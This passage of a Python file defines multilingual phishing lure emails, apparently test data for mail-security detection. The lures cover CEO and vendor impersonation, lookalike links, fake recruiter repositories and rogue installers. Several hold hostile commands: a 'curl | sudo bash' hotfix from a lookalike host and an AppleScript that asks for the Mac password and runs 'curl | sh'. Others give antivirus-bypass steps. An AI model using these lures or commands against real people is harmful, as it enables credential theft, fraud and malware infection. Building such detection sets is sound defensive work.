"""Set H lures: hand-written for this set, new stories and wording (see mail-h/README.md).
Attachments are inert and name only invented hosts."""

from __future__ import annotations

from attachments_c import mac_app_zip, svg_smuggling, xar_pkg
from attachments_d import chm, jscript, vbs
from binaries import html_smuggling, hta, iso_image, lnk, pe_stub, seven_zip, word_document, zip_archive
from people import (CEO, CEO_JA, CFO, HADDAD, ITO_JA, KEIRI, LAURENT, LI, PARK, SUZUKI, SUZUKI_JA,
                    TAKAHASHI, TANAKA, TANAKA_JA, TREASURY, WATANABE_JA)
from spec import Att, Mail
from threads_h import (SHIOMI_FAKE, HENGTAI_FAKE, MID_SHIOMI, MID_SAEBYEOL, MID_THORNBURY,
                       MID_WADINOOR, RIVOLET_FAKE, SAEBYEOL_FAKE, THORNBURY_FAKE, WADINOOR_FAKE)


def L(category: str, language: str, note: str, sender: tuple[str, str], to: tuple[str, str], subject: str,
      body: str, date: str, **kw) -> Mail:
    return Mail("lure", category, language, note, sender, (to,), subject, body, date, **kw)


LURES: list[Mail] = []
add = LURES.append

# -- exec-impersonation -----------------------------------------------------------------------------

add(L("exec-impersonation", "ja",
      "CEO's Japanese name and title on Gmail asks his assistant for his passport scan and the company seal certificate",
      ("佐藤 陽翔（代表取締役CEO）", "haruto.sato.kitsune@gmail.com"), ITO_JA,
      "至急：登記関係の書類について",
      """伊藤さん

お疲れさまです。佐藤です。出張先から私用のアドレスで失礼します。

本日中に弁護士事務所へ提出が必要になりました。以下をスキャンしてこのアドレスに返信してください。
・私のパスポート（顔写真のページ）
・会社の印鑑証明書と履歴事項全部証明書
・代表印の印影（白い紙に押してスキャンで構いません）

案件はまだ社内に出せない話なので、法務や総務には声をかけず伊藤さんだけで進めてください。
会議が続くので電話には出られません。メールでお願いします。

佐藤""", "2026-11-02 10:14 +0900"))

add(L("exec-impersonation", "en",
      "CFO's name on Proton Mail asks treasury to raise the hot-wallet withdrawal limit in the policy and keep security out of it",
      ("Emily Carter | CFO", "e.carter.kitsune@proton.me"), TANAKA,
      "Policy change before Friday - keep this between us",
      """Mika,

I'm writing from my personal account because my laptop is with IT for re-imaging.

We have a year-end rebalancing with two market makers starting tomorrow and the current daily
withdrawal limit on hot wallet 1 will block it. Please raise the daily cap to 4,000,000 USDT in the
transaction policy tonight and approve it from your side; I'll countersign when I'm back on my laptop.

Please don't open a ticket with security for this one, the review cycle takes three days and Haruto
already agreed it verbally. I'll document it on Monday.

Thanks,
Emily""", "2026-11-03 21:40 +0900"))

add(L("exec-impersonation", "en",
      "romaji CEO with title on kitsune-ex.or.jp (.co.jp -> .or.jp swap) asks an engineer for an admin GitHub token for an 'auditor'",
      ("Sato Haruto, Representative Director", "h.sato@kitsune-ex.or.jp"), SUZUKI,
      "Token for the external code auditor",
      """Kenta-san,

The external auditor we hired for the pre-listing review needs read/write access to our private
repositories today. Instead of inviting them to the org (legal hasn't finished the NDA), please create a
classic personal access token on your account with repo, admin:org and workflow scopes, no expiry, and
reply with it directly to me. I will pass it to them.

Please handle it in the next hour, they are waiting.

Haruto Sato
Representative Director, CEO
Kitsune Exchange K.K.""", "2026-11-04 11:02 +0900"))

add(L("exec-impersonation", "en",
      "spoof of the CEO's own address (DMARC fail) with Reply-To on a lookalike asks treasury to approve a queued withdrawal now",
      CEO, TANAKA,
      "Approve the pending withdrawal #88213 now",
      """Mika,

There is a withdrawal sitting in the approval queue (#88213, 612 ETH) for a client I met this morning.
It has been checked by me personally. Approve it now please, the client is waiting at the table.

Reply only to this mail, I'm on my phone.

Haruto""", "2026-11-05 13:27 +0900", auth="fail", reply_to="h.sato@kitsune-ex-secretariat.com",
      return_path="bounce@smtp-relay-eu4.net"))

add(L("exec-impersonation", "fr",
      "CFO's name on laposte.net asks the Paris office to pay a confidential acquisition retainer to a Maltese IBAN",
      ("Emily Carter - Directrice financière", "emily.carter.kx@laposte.net"), LAURENT,
      "Dossier confidentiel - virement à traiter aujourd'hui",
      """Bonjour Camille,

Je vous écris depuis une adresse personnelle : le dossier dont je vais vous parler est strictement
confidentiel et ne doit pas transiter par les boîtes de l'entreprise.

Nous sommes en train de finaliser le rachat d'un PSAN français. Le cabinet d'avocats qui nous accompagne
demande une provision de 185 000 EUR avant la signature de ce soir. Merci d'effectuer le virement
depuis le compte de Paris vers :
  Bénéficiaire : Valmont & Partners Advisory Ltd
  IBAN : MT84 MALT 0110 0001 2345 MTLC AST0 01S

N'en parlez pas encore à l'équipe, l'annonce est prévue pour lundi. Envoyez-moi l'avis d'opéré dès que
c'est fait.

Emily""", "2026-11-06 09:55 +0100"))

add(L("exec-impersonation", "ko",
      "CEO's name on Kakao Mail asks the Seoul office for photos of the corporate banking OTP card and the login",
      ("사토 하루토 대표", "sato.kitsune.ceo@kakao.com"), PARK,
      "급한 부탁 하나만",
      """박대현 팀장님,

사토입니다. 일본 출장 중이라 개인 메일로 연락드립니다.

오늘 서울 법인 계좌에서 처리해야 할 송금이 있는데 제가 직접 하려고 합니다.
법인 인터넷뱅킹 아이디와 비밀번호, 그리고 OTP 카드 앞뒷면 사진을 이 메일로 보내주세요.
보안카드가 있으면 그것도 같이 부탁합니다.

회의 중이라 전화는 어렵습니다. 최대한 빨리 부탁해요.

사토 하루토""", "2026-11-07 15:20 +0900"))

add(L("exec-impersonation", "zh",
      "CFO's name on 126.com asks the HK desk to swap the USDT deposit address on client quote sheets",
      ("Emily Carter 首席财务官", "emily.carter.hk@126.com"), LI,
      "报价单收款地址调整（今天生效）",
      """李伟你好，

因为审计要求把场外客户资金和自营资金分开，从今天下午开始，发给客户的报价单上的 USDT 收款地址请改成：

TQ7rYh2mXv9KcN4pLs8WdE3uFjB6aZ1oRt

旧地址先不要删除，但不要再给客户。这件事财务这边已经和审计师确认过了，不需要走内部审批，
我回香港以后再补流程。改好以后把新的报价单模板发我看一下。

Emily""", "2026-11-08 14:05 +0800"))

add(L("exec-impersonation", "ar",
      "CEO's name on iCloud asks Dubai BD to pay an event 'sponsorship' into a personal account quietly",
      ("هاروتو ساتو - الرئيس التنفيذي", "haruto.sato.office@icloud.com"), HADDAD,
      "طلب عاجل وسري",
      """عمر، مساء الخير

أكتب لك من بريدي الشخصي لأنني في اجتماعات متواصلة. اتفقت مع منظم مؤتمر في دبي على رعاية خاصة
لشركتنا، والمبلغ 42,000 دولار يجب تحويله اليوم إلى الحساب الشخصي لمدير الفعالية حتى نحجز المكان:

الاسم: Rashid Kareem
IBAN: AE07 0331 2345 6789 0123 456

لا تخبر أحداً في الفريق الآن، سأعلن عن الرعاية بنفسي الأسبوع القادم. أرسل لي صورة الإيصال على هذا البريد.

هاروتو""", "2026-11-09 16:45 +0400"))

# -- vendor-impersonation ---------------------------------------------------------------------------

add(L("vendor-impersonation", "en",
      "fake Fireblocks notice asks signers to sideload a 'Mobile Enterprise' APK from a non-store host to re-bind their device",
      ("Fireblocks Customer Success", "notifications@fireblocks-mobile.com"), TANAKA,
      "Action required: re-bind your signing device by 20 November",
      """Hello Mika,

As part of the Fireblocks Mobile Enterprise rollout, consumer builds of the Fireblocks app will stop
signing for institutional workspaces on 20 November 2026. Signers who do not re-bind will be removed
from approval groups automatically.

To keep your approver role:
  1. Download the enterprise build: https://download.fireblocks-mobile.com/enterprise/fb-ent-5.2.1.apk
  2. Allow "install unknown apps" for your browser when Android asks (the enterprise build is
     distributed outside Google Play for compliance reasons).
  3. Sign in and enter your existing 6-digit PIN to migrate your key share.

This takes about two minutes. Thank you for helping us keep your workspace secure.

Fireblocks Customer Success""", "2026-11-02 08:30 +0000"))

add(L("vendor-impersonation", "en",
      "fake Safe{Wallet} 'owner migration' asks owners to sign a swapOwner that puts an unknown address in the Safe",
      ("Safe{Wallet}", "no-reply@safe-global.net"), TREASURY,
      "Safe{Wallet} v1.5 owner migration for your Safe",
      """Dear Safe owner,

Safe{Wallet} is migrating all Safes deployed before v1.4.1 to the new owner registry. Your Safe
eth:0x3bC1...9A70 has been scheduled for migration.

Please sign the prepared migration transaction before 12 November:
https://app.safe-global.net/migrate?safe=eth:0x3bC14e5D8a2F07c9B6e1d4A3f5c28E0b7D1a9A70

The transaction calls swapOwner() to move your owner slot to the registry proxy
0x91aE0c4D3b27F85a6E1c9B0d2F4e7A3c5B8D6f12. Your signing rights are preserved through the proxy.
If the migration is not signed, the Safe interface will stop showing your queue.

Safe{Wallet} team""", "2026-11-03 07:12 +0000"))

add(L("vendor-impersonation", "en",
      "fake GitHub security mail sends a developer to a github.com-prefixed lookalike to 'reauthorize' with a PAT",
      ("GitHub Security", "noreply@github-securityalerts.com"), SUZUKI,
      "[GitHub] Suspicious OAuth application authorized on kitsune-ex",
      """Hi k-suzuki,

We detected that a third-party OAuth application ("ci-cache-helper") was authorized on your account
from an unrecognized location (Ho Chi Minh City, VN) and was granted access to the kitsune-ex
organization.

If this wasn't you, revoke it and re-verify your credentials within 24 hours:
https://github.com.session-review.dev/settings/reverify?user=k-suzuki

You will be asked for a personal access token with repo and admin:org scope so we can confirm
which repositories were accessed.

Thanks,
The GitHub Security Team""", "2026-11-04 02:18 +0000"))

add(L("vendor-impersonation", "en",
      "fake Datadog 'critical agent patch' with curl | sudo bash from a lookalike domain",
      ("Datadog Support", "support@datadoghq-status.com"), TAKAHASHI,
      "Critical: Datadog Agent 7.58 remote code execution fix (CVE pending)",
      """Hello,

A critical vulnerability affects Datadog Agent versions 7.52 to 7.58 on Linux hosts. Our records show
14 affected hosts in your organization (kitsune-ex-prod).

Until the fixed package reaches the public repositories, please apply the hotfix on every host:

    curl -fsSL https://hotfix.datadoghq-status.com/agent/fix-7.58.sh | sudo bash

The script replaces the vulnerable integration and restarts the agent. No downtime is expected.

Datadog Support Engineering""", "2026-11-05 01:44 +0000"))

add(L("vendor-impersonation", "ja",
      "fake kintone notice on a lookalike domain asks staff to log in to keep the account",
      ("kintone サポート", "info@kintone-cybozu-support.com"), KEIRI,
      "【重要】kintone アカウントの有効期限について",
      """経理部 ご担当者様

いつも kintone をご利用いただきありがとうございます。

セキュリティ強化のため、2026年11月15日以降、二要素認証の再登録が完了していないアカウントは
一時的に利用停止となります。お手数ですが、下記ページからログインし再登録を完了してください。

https://kitsune-ex.kintone-cybozu-support.com/login

※ 本メールは送信専用です。

サイボウズ株式会社 kintone サポート窓口""", "2026-11-06 10:00 +0900"))

add(L("vendor-impersonation", "ko",
      "fake AhnLab emergency V3 patch exe from a lookalike host with 'turn off real-time scan first'",
      ("안랩 기술지원센터", "support@ahnlab-update.co"), PARK,
      "[긴급] V3 Internet Security 보안 패치 적용 안내",
      """고객님 안녕하세요, 안랩 기술지원센터입니다.

최근 가상자산 사업자를 겨냥한 악성코드가 V3 엔진 일부 버전을 우회하는 사례가 확인되었습니다.
아래 긴급 패치를 오늘 중 모든 업무용 PC에 적용해 주시기 바랍니다.

다운로드: https://dl.ahnlab-update.co/v3/V3_EmergencyPatch_2026_11.exe

설치 중 충돌을 막기 위해 V3의 실시간 검사를 잠시 끈 뒤 실행하시고, 설치 후 재부팅하시면 됩니다.

감사합니다.
안랩 기술지원센터""", "2026-11-07 09:10 +0900"))

add(L("vendor-impersonation", "zh",
      "fake Tencent Exmail 'mailbox full' phish on a lookalike domain",
      ("腾讯企业邮箱", "service@exmail-qq.com.cn"), LI,
      "您的邮箱容量已满，新邮件将被退回",
      """尊敬的用户：

您的企业邮箱 l.wei@kitsune-ex.com 存储空间已使用 99.6%，系统将在 24 小时后开始退回新邮件。

请登录以下页面免费扩容至 50GB：
https://exmail-qq.com.cn/cgi-bin/expand?uid=l.wei%40kitsune-ex.com

登录后请输入邮箱密码完成身份验证。

腾讯企业邮箱团队""", "2026-11-08 11:30 +0800"))

add(L("vendor-impersonation", "fr",
      "fake Yousign notice sends the Paris office to a credential page on a lookalike domain",
      ("Yousign", "notification@yousign-signature.fr"), LAURENT,
      "Document en attente de votre signature : Avenant_bail_Paris.pdf",
      """Bonjour Camille Laurent,

Vous avez un document en attente de signature électronique :
  « Avenant au bail commercial - locaux Paris 8e »
  Expéditeur : Cabinet Dufrenne Immobilier

Pour consulter et signer le document, connectez-vous avec votre compte Microsoft 365 :
https://yousign-signature.fr/sign/9f2c71?email=c.laurent%40kitsune-ex.com

Ce lien expire dans 48 heures.

L'équipe Yousign""", "2026-11-09 10:22 +0100"))

add(L("vendor-impersonation", "ar",
      "fake Microsoft 365 admin password-expiry notice on a lookalike domain",
      ("مركز إدارة Microsoft 365", "admin@microsoft365-ae-support.com"), HADDAD,
      "تنبيه: كلمة المرور الخاصة بك ستنتهي اليوم",
      """مرحباً عمر،

ستنتهي صلاحية كلمة المرور الخاصة بحساب o.haddad@kitsune-ex.com اليوم الساعة 11:59 مساءً.
للاحتفاظ بكلمة المرور الحالية وتجنب فقدان الوصول إلى البريد وTeams، يرجى التأكيد من خلال الرابط:

https://login.microsoft365-ae-support.com/keep-password?u=o.haddad

فريق Microsoft 365""", "2026-11-10 08:05 +0400"))

# -- lookalike-link ---------------------------------------------------------------------------------

add(L("lookalike-link", "en",
      "IT helpdesk on kitsune-ex.or.jp (.co.jp -> .or.jp swap) asks staff to enrol a new VPN certificate",
      ("Kitsune IT Helpdesk", "it-helpdesk@kitsune-ex.or.jp"), SUZUKI,
      "New VPN client certificate - enrol before 14 Nov",
      """Hi Kenta,

We are replacing the VPN client certificates issued in 2025. Your current certificate will stop working
on 14 November.

Enrol for the new certificate here (sign in with your usual SSO password and MFA code):
https://vpn.kitsune-ex.or.jp/enroll

Kitsune IT Helpdesk""", "2026-11-02 09:00 +0900"))

add(L("lookalike-link", "ja",
      "General affairs on kitsune-exs.co.jp (extra s) sends a health-check booking login",
      ("総務部", "soumu@kitsune-exs.co.jp"), TANAKA_JA,
      "【総務】2026年度 定期健康診断の予約受付開始",
      """社員各位

お疲れさまです。総務部です。
今年度の定期健康診断の予約受付を開始しました。11月12日までに下記ページから社員番号と
社内システムのパスワードでログインし、希望日を登録してください。

https://kitsune-exs.co.jp/kenshin/login

未登録の方は会社指定日に自動で割り当てとなります。

総務部""", "2026-11-03 09:30 +0900"))

add(L("lookalike-link", "en",
      "queue link on a Cyrillic-ѕ homoglyph of app.safe.global (app.xn--afe-ehd.global)",
      ("Mika Tanaka", "mika.tanaka.kx@gmail.com"), CFO,
      "Safe queue: 2 txs waiting for you",
      """Emily,

Two transactions are waiting for your signature in the treasury Safe, can you look before the cut-off?
https://app.xn--afe-ehd.global/transactions/queue?safe=eth:0x3bC14e5D8a2F07c9B6e1d4A3f5c28E0b7D1a9A70

(using my personal mail, work Outlook keeps crashing)

Mika""", "2026-11-04 14:50 +0900"))

add(L("lookalike-link", "en",
      "HTML anchor shows console.fireblocks.io but links to a .ai TLD swap",
      ("Fireblocks Workspace", "workspace@fireblocks-console.ai"), TANAKA,
      "3 transactions pending approval in Kitsune Treasury",
      """You have 3 transactions pending approval in the Kitsune Treasury workspace.
Review them at console.fireblocks.io""", "2026-11-05 06:20 +0000",
      html="""<p>You have <b>3 transactions</b> pending approval in the <b>Kitsune Treasury</b> workspace.</p>
<p>Review them at <a href="https://console.fireblocks.ai/v2/approvals?ws=kitsune-treasury">https://console.fireblocks.io/v2/approvals</a></p>"""))

add(L("lookalike-link", "ko",
      "year-end tax settlement notice on kitsunex.co.jp (dropped hyphen-e) asks for a password login",
      ("인사팀", "hr@kitsunex.co.jp"), PARK,
      "2026년 연말정산 간소화 자료 제출 안내",
      """서울사무소 임직원 여러분,

2026년 귀속 연말정산을 위해 간소화 자료를 아래 포털에 11월 14일까지 업로드해 주세요.
로그인은 사내 계정 아이디와 비밀번호를 그대로 사용합니다.

https://portal.kitsunex.co.jp/yearend/kr

인사팀 드림""", "2026-11-06 10:15 +0900"))

add(L("lookalike-link", "zh",
      "HK office MPF-style benefits form on kitsune-ex.com.hk (added ccTLD)",
      ("Kitsune HK 行政部", "admin@kitsune-ex.com.hk"), LI,
      "【行政】年终花红及强积金资料确认",
      """各位同事：

为准备年终花红发放，请在 11 月 13 日前登入以下页面核对个人资料及银行账户，
使用公司邮箱账号和密码登入即可：

https://hr.kitsune-ex.com.hk/bonus/confirm

行政部""", "2026-11-07 10:40 +0800"))

add(L("lookalike-link", "fr",
      "meal-voucher card renewal on kitsune-ex.paris (new-gTLD swap) asks for SSO credentials",
      ("Ressources Humaines Paris", "rh@kitsune-ex.paris"), LAURENT,
      "Renouvellement de votre carte titres-restaurant",
      """Bonjour Camille,

Votre carte titres-restaurant arrive à expiration le 30 novembre. Pour recevoir la nouvelle carte
sans interruption, confirmez votre adresse de livraison via votre compte SSO :

https://avantages.kitsune-ex.paris/carte/renouvellement

Cordialement,
Service RH - bureau de Paris""", "2026-11-10 11:05 +0100"))

add(L("lookalike-link", "ar",
      "sender on kitsune-ex.me (TLD swap) shares a 'shared drive' login page",
      ("فريق تقنية المعلومات", "it@kitsune-ex.me"), HADDAD,
      "تم مشاركة مجلد معك: عقود العملاء 2026",
      """مرحباً عمر،

تمت مشاركة المجلد «عقود العملاء 2026» معك. للوصول، سجّل الدخول بحساب الشركة:

https://drive.kitsune-ex.me/s/contracts-2026

فريق تقنية المعلومات""", "2026-11-11 09:30 +0400"))

add(L("lookalike-link", "en",
      "Latin é homoglyph of the org's .com domain (xn--kitsune-x-i4a.com) in a payroll-portal link",
      ("Payroll", "payroll@kitsune-ex.com"), SUZUKI,
      "Your November payslip is ready",
      """Hi Kenta,

Your November 2026 payslip is ready. Sign in to view and download it:
https://payroll.xn--kitsune-x-i4a.com/payslips/2026-11

Payroll team""", "2026-11-12 18:02 +0900", auth="fail", return_path="noreply@xn--kitsune-x-i4a.com"))

# -- recruiter-coding-test --------------------------------------------------------------------------

add(L("recruiter-coding-test", "en",
      "recruiter's GitHub take-home to run with npm install && npm run bootstrap on the work laptop, then Telegram",
      ("Bethany Cole | Northquay Labs", "bethany.cole.talent@gmail.com"), SUZUKI,
      "Staff Backend Engineer (remote, USD 240-280k) - next step",
      """Hi Kenta,

Thanks for the quick chat on LinkedIn. The hiring manager liked your profile, so the next step is a short
practical exercise (about 45 minutes):

  git clone https://github.com/northquay-labs/ledger-reconciler
  cd ledger-reconciler && npm install && npm run bootstrap

Please run it on the laptop you use every day so the environment check can see your normal setup
(node version, browser, wallet extensions we support). Fix the failing reconciliation test and push a
branch.

When it runs, message me on Telegram (@bethany_nq) and we'll book the technical interview the same day.

Best,
Bethany Cole
Talent Partner, Northquay Labs""", "2026-11-02 23:15 +0000"))

add(L("recruiter-coding-test", "ja",
      "Japanese recruiter's GitLab test with pnpm install and a seed script, then Signal",
      ("綾瀬フィンテック 採用担当 森下", "morishita.ayase.hr@gmail.com"), SUZUKI_JA,
      "【綾瀬フィンテック】技術課題のご案内",
      """鈴木 健太 様

先日はカジュアル面談のお時間をいただきありがとうございました。
次のステップとして技術課題をお送りします。所要時間は30分程度です。

  git clone https://gitlab.com/ayase-fintech/kyc-dashboard.git
  cd kyc-dashboard
  pnpm install
  pnpm run seed

seed スクリプトが動作環境を自動で確認しますので、普段お使いの業務用 PC で実行してください。
仮想環境やコンテナでは正しく判定できません。

完了しましたら Signal（+81 80-4417-2093）までご連絡ください。その場で最終面接の日程を調整します。

綾瀬フィンテック株式会社
採用担当 森下""", "2026-11-03 19:40 +0900"))

add(L("recruiter-coding-test", "en",
      "Bitbucket Python exercise with pip install + manage.py check_env 'in your logged-in browser session', then WhatsApp",
      ("Tobias Mwangi", "tobias.mwangi@meridianhire.io"), SUZUKI,
      "Technical assessment - Solidity/Python role at a Singapore market maker",
      """Hi Kenta,

As discussed, here is the assessment for my client (a Singapore market maker, name under NDA until the
final round):

  https://bitbucket.org/quantdesk-assess/risk-engine-test
  pip install -r requirements.txt
  python manage.py check_env && python manage.py runserver

Run check_env while you are logged in to your usual browser so it can verify the Web3 provider. Then
implement the missing margin function.

Send me a WhatsApp (+44 7700 912 443) once it's done, the client wants to close the role this week.

Tobias Mwangi
Meridian Hire""", "2026-11-05 16:20 +0000"))

add(L("recruiter-coding-test", "ko",
      "Korean recruiter's GitHub test: npm ci && npm run test:wallet in the browser with the wallet extension, then Discord",
      ("달빛랩스 채용팀 정하늘", "haneul.jung@dalbit-labs.io"), PARK,
      "[달빛랩스] 블록체인 백엔드 개발자 과제 안내",
      """박대현님 안녕하세요,

서류 검토 결과 다음 단계로 과제 전형을 안내드립니다.

  git clone https://github.com/dalbit-labs/defi-settlement-task
  npm ci && npm run test:wallet

테스트는 지갑 확장 프로그램이 설치된 크롬 프로필에서 실행되어야 정상 채점됩니다.
회사 노트북에서 진행하셔도 무방합니다.

완료 후 디스코드(dalbit_hr#2291)로 알려주시면 기술 면접 일정을 바로 잡겠습니다.

달빛랩스 채용팀 정하늘 드림""", "2026-11-06 17:00 +0900"))

add(L("recruiter-coding-test", "zh",
      "Chinese headhunter: npx of an unknown CLI scaffold package, then WeChat",
      ("猎头 王思远", "siyuan.wang.hunt@163.com"), LI,
      "区块链后端岗位 - 在线笔试说明",
      """李伟您好，

我是恒宇科技的猎头顾问王思远。客户那边对您的背景很感兴趣，安排了一个在线笔试，约 40 分钟：

  npx @hengyu-dev/assess-cli@latest init --candidate l.wei
  cd assess && npm run start

请在平时工作用的电脑上运行，笔试工具会检查本地环境，虚拟机里会判定作弊。
做完后加我微信 wsy_hunt88，我直接约面试官。

王思远""", "2026-11-07 20:10 +0800"))

add(L("recruiter-coding-test", "fr",
      "French recruiter: bun install && bun run dev from a GitHub repo 'on your main machine', then Telegram",
      ("Léa Dumesnil - Talent Acquisition", "lea.dumesnil.recrute@gmail.com"), LAURENT,
      "Test technique - poste Lead Engineer (Paris/remote)",
      """Bonjour Camille,

Merci pour votre intérêt. Voici le test technique (1 h environ) :

  git clone https://github.com/atelier-orsay/market-widget
  bun install && bun run dev

Merci de le lancer sur votre poste principal, pas dans une VM : l'environnement de test vérifie vos
extensions navigateur pour l'intégration wallet.

Dès que c'est lancé, écrivez-moi sur Telegram (@lea_dumesnil_ta) pour l'entretien.

Léa Dumesnil""", "2026-11-08 10:30 +0100"))

add(L("recruiter-coding-test", "ar",
      "Arabic recruiter: yarn && yarn start from a GitHub repo, then WhatsApp",
      ("سارة الحمادي - التوظيف", "sara.hammadi.jobs@outlook.com"), HADDAD,
      "اختبار تقني - وظيفة مطور بلوك تشين",
      """مرحباً عمر،

شكراً لاهتمامك بالوظيفة. المرحلة التالية اختبار قصير:

  git clone https://github.com/dunecore-tech/otc-dashboard-test
  yarn && yarn start

يرجى تشغيله على جهازك الأساسي وليس على جهاز افتراضي، لأن الاختبار يتحقق من إعدادات المتصفح.
بعد التشغيل أرسل لي على واتساب ‎+971 55 812 3490 لتحديد موعد المقابلة.

سارة""", "2026-11-09 12:00 +0400"))

# -- investor-meeting-install -----------------------------------------------------------------------

add(L("investor-meeting-install", "en",
      "VC sends a Zoom-lookalike join link that requires a 'Zoom Workplace' pkg update",
      ("Marcus Hale | Carrow Peak Partners", "marcus@carrowpeak.vc"), CEO,
      "Carrow Peak x Kitsune - call link for Thursday",
      """Haruto,

Great to reconnect. For Thursday 10:00 JST, here is the link:
https://zoom-workplace.us/j/83310457712?pwd=kx2026

Our compliance team requires the latest Zoom Workplace client (6.4.2). If it says your client is out of
date, install the update from the page (ZoomWorkplace-6.4.2.pkg) and re-open the link. Takes a minute.

Looking forward to it,
Marcus Hale
Partner, Carrow Peak Partners""", "2026-11-02 17:30 +0000"))

add(L("investor-meeting-install", "ja",
      "Japanese VC asks the CEO to install a 'Zoho Meeting plugin' exe from a lookalike domain",
      ("風花キャピタル 投資担当 早川", "hayakawa@kazahana-capital.jp"), CEO_JA,
      "面談URLのご案内（11/6 14:00）",
      """佐藤様

先日はありがとうございました。風花キャピタルの早川です。
11月6日（木）14:00 からの面談は下記 URL からご参加ください。

https://zoho-meeting.live/join/551-208-334

弊社は録画・暗号化の関係で専用プラグインを使用しております。初回接続時に表示される
ZohoMeetingPlugin_Setup.exe をインストールしてから入室してください。
「Windows によって PC が保護されました」と出た場合は「詳細情報」→「実行」で進めます。

よろしくお願いいたします。
早川""", "2026-11-04 18:00 +0900"))

add(L("investor-meeting-install", "ko",
      "Korean investor's 'secure Jitsi' meeting needs an MSI with 'turn off antivirus'",
      ("다솔벤처스 심사역 오지환", "jihwan.oh@dasol-ventures.kr"), PARK,
      "투자 미팅 접속 안내 (11/7 16시)",
      """박대현 팀장님,

내일 16시 미팅은 저희 사내 보안 회의 시스템으로 진행합니다.
https://meet.dasol-ventures.kr/room/kitsune

처음 접속하실 때 DasolSecureMeet.msi 설치가 필요합니다. 백신이 설치를 막을 수 있으니
설치하는 동안만 실시간 감시를 꺼 주세요.

오지환 드림""", "2026-11-06 18:30 +0900"))

add(L("investor-meeting-install", "zh",
      "Chinese fund asks to install a 'VooV Meeting international encrypted edition' exe from a lookalike download site",
      ("远澜资本 投资经理 陈一鸣", "yiming.chen@yuanlan-cap.com"), LI,
      "明日会议链接及客户端",
      """李先生您好，

明天上午 10 点的会议我们用腾讯会议国际加密版，普通版本无法入会。请先下载安装：
https://voovmeeting-download.com/intl/VooVMeeting_Secure_3.21.exe

安装时如果杀毒软件提示，请选择允许。会议号稍后发您。

陈一鸣
远澜资本""", "2026-11-07 17:15 +0800"))

add(L("investor-meeting-install", "fr",
      "French family office's webinar needs a 'Livestorm desktop' pkg from a lookalike domain",
      ("Antoine Berthier - Maison Lavergne", "a.berthier@maison-lavergne.fr"), LAURENT,
      "Point investisseurs de jeudi - lien et application",
      """Bonjour Camille,

Pour jeudi 15 h, nous utilisons Livestorm en mode privé. Merci d'installer au préalable l'application
de bureau : https://livestorm-app.co/download/LivestormDesktop.pkg

Sur Mac, si le système bloque l'ouverture, allez dans Réglages > Confidentialité et sécurité et
cliquez sur « Ouvrir quand même ».

Bien à vous,
Antoine Berthier""", "2026-11-09 16:40 +0100"))

add(L("investor-meeting-install", "ar",
      "Arabic investor's GoTo Meeting lookalike needs an exe with SmartScreen bypass",
      ("فيصل الكعبي - صندوق رمال", "faisal@remal-fund.ae"), HADDAD,
      "رابط اجتماع المستثمرين غداً",
      """أهلاً عمر،

اجتماع الغد الساعة 11 صباحاً سيكون عبر GoTo Meeting. يرجى تحميل البرنامج أولاً من:
https://goto-meeting.cloud/download/GoToSetup_secure.exe

إذا ظهرت رسالة حماية Windows اختر «مزيد من المعلومات» ثم «تشغيل على أي حال».

فيصل""", "2026-11-10 19:00 +0400"))

add(L("investor-meeting-install", "en",
      "investor's 'meeting brief' carries a zipped AppleScript app that asks for the macOS password",
      ("Nadia Petrov | Halden Ridge Capital", "nadia@haldenridge.capital"), CFO,
      "Pre-read for our call + meeting app",
      """Emily,

Ahead of tomorrow's call, attached is our secure brief viewer for Mac (our LPs require it). Unzip and
open "Halden Brief", it will ask for your Mac password once to unlock the encrypted deck.

Talk soon,
Nadia""", "2026-11-11 20:20 +0000",
      attachments=(Att("Halden_Brief.zip", mac_app_zip(
          "Halden Brief", 'display dialog "Enter your password to decrypt the brief" default answer "" '
          'with hidden answer\ndo shell script "curl -s https://cdn.haldenridge.capital/b | sh"'),
          "application/zip"),)))

# -- trading-app ------------------------------------------------------------------------------------

add(L("trading-app", "en",
      "market-making 'analytics' dmg from a new domain with quarantine removal instructions",
      ("Ollie Brandt | Sable Creek Trading", "ollie@sablecreek.trade"), TANAKA,
      "LiquidityScope for your desk",
      """Hi Mika,

As promised, here's LiquidityScope, the order-book analytics tool we use with our exchange partners:
https://liquidityscope.app/dl/LiquidityScope-2.3.dmg

It's not notarised yet (Apple review is slow), so after copying it to Applications run:
  xattr -d com.apple.quarantine /Applications/LiquidityScope.app

Connect it with a read+trade API key of your house account and it will show where you lose on spreads.

Ollie""", "2026-11-03 12:00 +0000"))

add(L("trading-app", "ja",
      "arbitrage bot exe in a Google Drive zip with 'add a Defender exclusion' and withdrawal-enabled keys",
      ("クオンツ研究会 西村", "nishimura.quant@yahoo.co.jp"), TANAKA_JA,
      "裁定取引ツールの件",
      """田中様

先日の勉強会でお話しした取引所間裁定ツールをお送りします。
https://drive.google.com/file/d/1x9QkRz4fYbT2mN7aLp0Hc/view （ArbMaster_v4.zip）

解凍して ArbMaster.exe を起動してください。誤検知されやすいので、フォルダを Windows Defender の
除外に追加してからお使いください。API キーは「出金」権限も付けないと資金移動ができません。

西村""", "2026-11-04 21:30 +0900"))

add(L("trading-app", "zh",
      "Chinese 'quant dashboard' Chrome extension to load unpacked from a zip with developer mode",
      ("量化工作室 小何", "xiaohe.quant@qq.com"), LI,
      "行情看板插件（内部版）",
      """李总好，

这是我们给合作方用的实时价差看板 Chrome 插件，还没上架应用商店：
https://pan.baidu.com/s/1QkX7lt2mZ （SpreadBoard_ext.zip，提取码 8kq2）

解压后在 chrome://extensions 打开"开发者模式"，点"加载已解压的扩展程序"选中文件夹即可。
它需要读取所有网站数据，这样才能抓到交易所页面的盘口。

小何""", "2026-11-06 13:00 +0800"))

add(L("trading-app", "ko",
      "Korean 'AI price prediction' APK to sideload from a non-store host",
      ("시그마코인 운영팀", "help@sigmacoin-ai.kr"), PARK,
      "[초대] AI 시세 예측 앱 베타 테스터 선정 안내",
      """박대현님, 축하드립니다.

거래소 실무자 대상 AI 시세 예측 앱 베타 테스터로 선정되셨습니다.
플레이스토어 출시 전 버전이라 아래 링크에서 APK를 직접 받아 설치해 주세요.

https://sigmacoin-ai.kr/beta/SigmaCoinAI_1.0.9.apk

설치 시 '출처를 알 수 없는 앱 허용'을 켜야 합니다.

시그마코인 운영팀""", "2026-11-08 10:00 +0900"))

add(L("trading-app", "fr",
      "cracked 'TradingView Desktop Premium' exe from a lookalike download site",
      ("Maxime", "maxime.trading75@gmx.fr"), LAURENT,
      "TradingView premium gratuit pour l'équipe",
      """Salut Camille,

Comme on en parlait au meetup, voici la version Desktop avec Premium débloqué, on l'utilise tous :
